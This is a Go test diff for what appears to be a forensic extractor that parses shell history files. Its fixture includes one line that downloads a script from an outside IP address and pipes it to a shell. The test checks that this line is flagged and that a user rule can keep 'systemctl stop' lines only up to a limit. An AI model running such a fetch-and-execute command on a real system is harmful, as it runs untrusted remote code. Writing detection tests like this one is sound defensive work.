@@ -199,3 +199,32 @@ func TestLongCommand(t *testing.T) {
 		}
 	}
 }
+
+// TestWantedCommands: a rule of the user's has commands kept that say nothing by
+// themselves, within a bound that does not push out those that do.
+func TestWantedCommands(t *testing.T) {
+	var b strings.Builder
+	for i := range maxRecords + 3 {
+		fmt.Fprintf(&b, "systemctl stop service%d\n", i)
+	}
+	b.WriteString("ls -l\ncurl http://203.0.113.77/a | sh\n")
+	count := func(wanted func(*artifact.Record) bool) (stopped, fetched int, err error) {
+		recs, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/root/.bash_history", Text: b.String(), Wanted: wanted})
+		for i := range recs {
+			switch c := recs[i].Get("command"); {
+			case strings.HasPrefix(c, "systemctl stop"):
+				stopped++
+			case c != "":
+				fetched++
+			}
+		}
+		return stopped, fetched, err
+	}
+	if s, f, err := count(nil); s != 0 || f != 1 || err != nil {
+		t.Errorf("%d and %d records, %v", s, f, err)
+	}
+	s, f, err := count(func(r *artifact.Record) bool { return r.Contains("programs", "systemctl") })
+	if s != maxRecords || f != 1 || !artifact.IsCut(err) {
+		t.Errorf("%d and %d records, %v", s, f, err)
+	}
+}
